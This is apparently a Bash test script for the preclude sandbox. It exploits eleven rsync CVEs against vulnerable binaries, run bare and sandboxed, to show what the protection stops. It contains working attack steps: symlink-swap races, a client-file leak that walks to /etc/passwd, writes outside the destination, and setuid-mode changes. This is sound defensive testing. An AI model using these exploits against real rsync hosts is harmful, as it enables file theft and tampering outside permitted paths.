#!/bin/bash
# SPDX-License-Identifier: ISC
# Eleven CVEs of rsync, each exploited: what becomes of it with the bare binary, and under preclude. docs/CVES.md holds the
# table of this file, word for word: `tests/rsync/test_cve.sh --table` prints it.
#
# The attacker is an ordinary rsync where that suffices, else tests/rsync/attacker. Races are won every time: the attacker
# is one side of the protocol, and waits for the right moment.

# One row a case: CVE, the version that has the fix, its function below, the least that stops it under preclude (landlock,
# guard and narrow do with the kernel alone; confine, anchor; nothing), what the attacker does, and what the bare binary does
# then. Daemons run under the policy of `preclude rsyncd`, the rest under `preclude run --anchor --root DIR`.
cases()
{
	cat <<-'EOF'
		2024-12086|3.4.0|leak_home|landlock|A server answers a client's request with the name of a file on the client's side, and learns from what is asked again which bytes are in it|tells the server a file outside its destination, byte by byte
		2024-12086|3.4.0|leak_etc|anchor|The same, with a file that the system base lets the client read|the same
		2024-12087|3.4.0|twice|landlock|A server sends the list of a directory twice, the second time with a link where the first had a directory|writes what comes next through the link, anywhere
		2024-12088|3.4.0|link_made|nothing|A server sends links that are safe each by itself under `--safe-links`, but not together|makes a link that leads out of the destination
		2024-12088|3.4.0|link_used|landlock|And then a directory in the link's place, to a client with `-K`|writes through it
		2024-12747|3.4.0|sender|landlock|A file is swapped for a link after the daemon listed it, before the client asks for it|sends what the link leads to
		2026-29518|3.4.3|receiver|landlock|A directory is swapped for a link after the daemon looked at it, before it writes into it|writes outside the module
		2026-43619|3.4.3|attributes|confine|The same, before the daemon sets mode, owner and time of what it wrote|sets those of a file outside
		2026-43619|3.4.3|entries|landlock|The same, before the daemon makes directories and links in it|makes them outside
		2026-53784|3.5.0|module|narrow|A directory above the module is swapped for a link while the daemon runs, without chroot|serves what the link leads to
		2026-53785|3.5.0|relative|landlock|A client with `-R --no-implied-dirs` names a path through a link in the module|makes the directories and the file outside
		2026-53793|3.5.0|inner|landlock|A client writes through a link in a module with `path = outer/./inner`|writes beside the inner directory
		2026-53795|3.5.0|temp_inside|landlock|With an absolute `--temp-dir` in the destination, a directory is swapped for a link before the file is moved there|moves it outside
		2026-53795|3.5.0|temp_outside|guard|With one elsewhere|the same
		2026-70460|3.5.0|backup|guard|A client's `--backup-dir` names a link in the module|moves what it replaces outside
		2026-70460|3.5.0|backup_domain|landlock|The same, where the guard is off|the same
	EOF
}

table()
{
	echo '| CVE | before | attack | the bare binary | stopped by |'
	echo '| --- | --- | --- | --- | --- |'
	cases | while IFS='|' read -r cve mended _ by attack harm; do
		[ "$by" != nothing ] || by='**nothing**'
		echo "| CVE-$cve | $mended | $attack | $harm | $by |"
	done
}

if [ "${1:-}" = --table ]; then
	table
	exit
fi

. "$(dirname "$0")/../tap.sh"
. "$(dirname "$0")/lib.sh"
at_exit+=(daemon_stop)
daemon=

# version BINARY: what it calls itself.
version()
{
	"$1" --version | awk 'NR == 1 { print $3 }'
}

# The vulnerable releases that are available. The first is the peer, too, and shows what each part of preclude stops.
versions=()
declare -A binaries
for name in rsync-legacy rsync-second; do
	obtain pristine "$name" "attacks on $name" || continue
	version=$(version "$pristine")
	[ -n "${binaries[$version]:-}" ] || versions+=("$version")
	binaries[$version]=$pristine
done
[ "${#versions[@]}" -gt 0 ] || skip_rest "no vulnerable release is available"
legacy=${versions[0]}
pristine=${binaries[$legacy]}
attacker=$("$top/tests/rsync/attacker" "${pristine%/*}") || exit 1

# Each case has a directory of its own, $dir; the victim is $binary, and runs under preclude's protection $level, or bare.
# case_NAME sets up, attacks, and succeeds when there was harm.

# The daemon at $url is the victim; more of its configuration comes from standard input: victim_daemon CHROOT
victim_daemon()
{
	local policy=()
	rsyncd_setup "$dir" "$1"
	cat >>"$dir/rsyncd.conf"
	mkdir -p "$dir/outside"
	if [ "$level" != bare ]; then
		rsyncd_sealed "$dir"
		readarray -t -O "${#policy[@]}" policy < <(protection "$level")
	fi
	daemon_start "$dir" "$binary" "${policy[@]}" "${@:2}" >&2
}

# The daemon at $url is the attacker, its module is `two`: evil_daemon BINARY [VARIABLE=VALUE...]
evil_daemon()
{
	rsyncd_setup "$dir" no
	mkdir -p "$dir/outside"
	daemon_start "$dir" "$@" >&2
}

# The victim is a client, or a server without a daemon, at work in one directory: victim ROOT ARGUMENT...
victim()
{
	local root=$1 seal=()
	shift
	if [ "$level" != bare ]; then
		readarray -t seal < <(protection "$level")
		seal=(env PRECLUDE_ANCHOR=on "${seal[@]}" "$B/preclude" run --root "$root" \
			--guard rsync --log "$dir/preclude.log" --)
	fi
	"${seal[@]}" "$binary" "$@"
}

# What the attacker runs at the right moment, for $ATTACK_RUN: script WAIT COMMAND; that moment is when WAIT holds.
script()
{
	cat >"$dir/script" <<-EOF
		#!/bin/bash
		end=\$((SECONDS + $(patience 10)))
		until $1 || [ \$SECONDS -gt \$end ]; do sleep 0.01; done
		$2
	EOF
	chmod 755 "$dir/script"
}

# The attacker's second foot: when something is called WAIT, or at once, PLACE is swapped for a link to $dir/outside.
swap()
{
	script "compgen -G '${2:-$1}' >/dev/null" "mv '$1' '$dir/away' && ln -s '$dir/outside' '$1'"
}

# Three characters of a file on the client's side, told by what it does not ask for again.
leak()
{
	local file=$1 i char
	evil_daemon "$attacker" ATTACK=leak "ATTACK_TO=$file" "ATTACK_RUN=$dir/learnt"
	mkdir -p "$dir/home/dest"
	for i in 0 1 2; do for char in {a..z}; do echo "$i" >"$dir/two/$i-$char"; done; done
	victim "$dir/home/dest" -r "$url/two/" "$dir/home/dest/"
	daemon_idle
	# What it took to be false is asked for again; only a right guess is asked for once.
	[ "$(sed 's/.*-//' "$dir/learnt" | tr -d '\n')" = "$(head -c 3 "$dir/home/dest/$file")" ]
}

case_leak_home()
{
	mkdir -p "$dir/home/dest"
	echo key >"$dir/home/secret"
	leak ../secret
}

case_leak_etc()
{
	leak ../../../../../../../../../../../../../../etc/passwd
}

case_twice()
{
	script "[ -L '$dir/dest/d/sub' ]" true
	evil_daemon "$attacker" ATTACK=twice "ATTACK_TO=$dir/outside" ATTACK_FILE=file "ATTACK_RUN=$dir/script"
	mkdir -p "$dir/two/d/sub" "$dir/two/d/then" "$dir/dest"
	echo evil >"$dir/two/d/sub/file"
	victim "$dir/dest" -a "$url/two/d" "$dir/dest/"
	test -e "$dir/outside/file"
}

# l leads nowhere but here; textually, each l makes up for one way up.
safe_links()
{
	evil_daemon "$binary"
	mkdir -p "$dir/a/b/dest"
	ln -s . "$dir/two/l"
	ln -s l/l/l/../../../outside "$dir/two/out"
	victim "$dir/a/b/dest" -a --safe-links "$url/two/" "$dir/a/b/dest/"
}

case_link_made()
{
	safe_links
	[ "$(realpath "$dir/a/b/dest/out")" = "$dir/outside" ]
}

case_link_used()
{
	safe_links
	rm "$dir/two/out"
	mkdir "$dir/two/out"
	echo evil >"$dir/two/out/file"
	victim "$dir/a/b/dest" -aK --safe-links "$url/two/" "$dir/a/b/dest/"
	test -e "$dir/outside/file"
}

case_sender()
{
	victim_daemon no </dev/null
	echo plain >"$dir/two/file"
	echo secret >"$dir/outside/secret"
	ATTACK=ask ATTACK_RUN="ln -sf $dir/outside/secret $dir/two/file" "$attacker" -r "$url/two/" "$dir/loot/"
	grep -qs secret "$dir/loot/file"
}

# push ATTACK FILE OPTION...: the tree $dir/evil, by an attacker who swaps a directory when it is time
push()
{
	local attack=$1 file=$2
	shift 2
	ATTACK=$attack ATTACK_FILE=$file ATTACK_RUN="$dir/script" "$attacker" "$@" "$dir/evil/" "$url/two/"
	daemon_idle
}

case_receiver()
{
	victim_daemon no </dev/null
	mkdir -p "$dir/evil/sub"
	echo evil >"$dir/evil/sub/file"
	swap "$dir/two/sub"
	push open file -r
	test -e "$dir/outside/file"
}

case_attributes()
{
	victim_daemon no </dev/null
	echo precious >"$dir/outside/file"
	chmod 600 "$dir/outside/file"
	mkdir -p "$dir/evil/sub"
	echo evil >"$dir/evil/sub/file"
	chmod 4777 "$dir/evil/sub/file"
	swap "$dir/two/sub" "$dir/two/sub/file"
	push data file -rpt --inplace
	[ "$(stat -c %a "$dir/outside/file")" = 4777 ]
}

case_entries()
{
	victim_daemon no </dev/null
	mkdir -p "$dir/evil/d/sub/made"
	ln -s /nowhere "$dir/evil/d/sub/link"
	swap "$dir/two/d" "$dir/two/d/sub"
	push list - -a
	test -d "$dir/outside/sub/made" -a -L "$dir/outside/sub/link"
}

case_module()
{
	mkdir -p "$dir/area/mod" "$dir/outside/mod"
	echo secret >"$dir/outside/mod/secret"
	victim_daemon no <<-EOF
		[area]
		path = $dir/area/mod
	EOF
	mv "$dir/area" "$dir/area.away"
	ln -s "$dir/outside" "$dir/area"
	# A local user's link: rsync 3.5 still follows root's.
	chown -h 1234 "$dir/area"
	"$pristine" -r "$url/area/" "$dir/loot/"
	grep -qs secret "$dir/loot/secret"
}

case_relative()
{
	victim_daemon no </dev/null
	ln -s "$dir/outside" "$dir/two/link"
	mkdir -p "$dir/evil/link/made"
	echo evil >"$dir/evil/link/made/file"
	(cd "$dir/evil" && "$pristine" -R --no-implied-dirs link/made/file "$url/two/")
	test -e "$dir/outside/made/file"
}

case_inner()
{
	mkdir -p "$dir/one/inner"
	ln -s "$(realpath --relative-to=/ "$dir/outside" | sed 's/.*/..\/outside/')" "$dir/one/inner/link"
	mkdir -p "$dir/one/outside"
	victim_daemon yes <<-EOF
		[inner]
		path = $dir/one/./inner
	EOF
	echo evil >"$dir/file"
	"$pristine" "$dir/file" "$url/inner/link/file"
	test -e "$dir/one/outside/file"
}

# temp DIRECTORY: over a remote shell, whose account may do nothing but serve this destination
temp()
{
	mkdir -p "$dir/evil/sub" "$dir/dest" "$dir/outside" "$1"
	echo evil >"$dir/evil/sub/file"
	swap "$dir/dest/sub" "$1/file.*"
	cat >"$dir/rsh" <<-EOF
		#!/bin/bash
		$(declare -p dir binary level B)
		$(declare -f victim protection)
		shift 2
		victim $dir/dest "\$@"
	EOF
	chmod 755 "$dir/rsh"
	ATTACK=data ATTACK_FILE=file ATTACK_RUN="$dir/script" "$attacker" -r --temp-dir="$1" -e "$dir/rsh" \
		"$dir/evil/" host:"$dir/dest/"
	test -e "$dir/outside/file"
}

case_temp_inside()
{
	temp "$dir/dest/.tmp"
}

case_temp_outside()
{
	temp "$dir/tmp"
}

backup()
{
	victim_daemon no "$@" </dev/null
	ln -s "$dir/outside" "$dir/two/link"
	mkdir -p "$dir/evil"
	echo old >"$dir/two/file"
	echo newer >"$dir/evil/file"
	"$pristine" -r --backup --backup-dir=link "$dir/evil/" "$url/two/"
	daemon_idle
	test -e "$dir/outside/file"
}

case_backup()
{
	backup
}

case_backup_domain()
{
	backup PRECLUDE_GUARD=
}

# stopped BY: what the log of this case says. With everything it may be any of them, whoever comes first.
stopped()
{
	local select
	case $1 in
	guard) select='.event == "guard" and .action == "rejected"' ;;
	narrow) select='.event == "warning" and (.reason | test("is refused"))' ;;
	passed) select='.event == "call" and .escape and .effect == "passed" and .does != "look" and .does != "enter"' ;;
	any) select='.effect == "denied" or .action == "rejected" or ((.reason // "") | test("is refused"))' ;;
	*) select='.event == "call" and .effect == "denied" and .by == "'"$1"'" and
		any(.resolved, .resolved2 | strings; test("/outside|/secret"))' ;;
	esac
	jq -se "any(.[]; $select)" "$dir/preclude.log" >/dev/null || { jq -c . "$dir/preclude.log"; false; }
}

# harm NAME: whether there is harm; what everybody said is in $dir/said
harm()
{
	local done=0
	mkdir -p "$dir"
	"case_$1" >"$dir/said" 2>&1 </dev/null || done=1
	[ -z "$daemon" ] || daemon_idle
	daemon_stop KILL
	return $done
}

# verdict CASE NAME BY HARM: a case with the $binary of $version, which does not have the fix.
verdict()
{
	local case=$1 name=$2 by=$3
	dir=$scratch/$name-$version level=bare
	ok "$case: bare, $4" harm "$name"
	# What the library adds to the kernel is the same for each version.
	for level in kernel metadata whole; do
		case $level in
		kernel) [ "$version" = "$legacy" ] || continue ;;
		metadata) [ "$version" = "$legacy" ] && [ "$by" = confine ] || continue ;;
		esac
		dir=$scratch/$name-$version-$level
		if suffices $level "$by"; then
			ok "$case: not under preclude, $level" not harm "$name"
			if [ $level = whole ]; then by=any; fi
			ok "$case: in the log, $by" stopped "$by"
		else
			ok "$case: under preclude, $level, the same" harm "$name"
			[ "$by" = nothing ] || ok "$case: in the log, an escape that passed" stopped passed
		fi
	done
}

# older VERSION THAN
older()
{
	[ "$1" != "$2" ] && [ "$(printf '%s\n' "$1" "$2" | sort -V | head -n 1)" = "$1" ]
}

# With one that has the fix the attack fails, which shows that it is the one it is said to be. Debian's rsync has all of
# them, when it is up to date; an older one has some, and calls itself as one that has none.
debian=$(version /usr/bin/rsync)
if older "$debian" "$(cases | cut -d '|' -f 2 | sort -V | tail -n 1)"; then
	skip "a release with every fix" "Debian's is $debian"
else
	versions+=("$debian")
	binaries[$debian]=/usr/bin/rsync
fi

# everything VERSION
everything()
{
	local version=$1 binary=${binaries[$1]} cve mended name by result
	while IFS='|' read -r cve mended name by _ result; do
		case $name in
		inner) root_for "CVE-$cve, $name, $version" "to change the root directory" || continue ;;
		module) root_for "CVE-$cve, $name, $version" "to make a link that is another user's" || continue ;;
		esac
		if older "$version" "$mended"; then
			verdict "CVE-$cve, $name, $version" "$name" "$by" "$result"
		else
			dir=$scratch/$name-$version level=bare
			ok "CVE-$cve, $name, $version: fixed" not harm "$name"
		fi
	done < <(cases)
}

# They mostly wait: side by side, each with daemons of its own.
for version in "${versions[@]}"; do
	(trap daemon_stop EXIT; everything "$version"; echo "# complete") >"$scratch/$version.tap" &
done
wait
cat "$scratch"/*.tap
tests=$((tests + $(cat "$scratch"/*.tap | grep -c '^\(not \)\?ok'))) failures=$(cat "$scratch"/*.tap | grep -c '^not ok')
is "each version was gone through" "$(cat "$scratch"/*.tap | grep -c '^# complete')" "${#versions[@]}"
oldest=$(printf '%s\n' "${versions[@]}" | sort -V | head -n 1)
while IFS='|' read -r cve mended name _; do
	older "$oldest" "$mended" || skip "CVE-$cve, $name, exploited" "no release before $mended is available"
done < <(cases)
ok "docs/CVES.md has the table of this file" diff <(table) <(grep '^|' "$top/docs/CVES.md")
finish
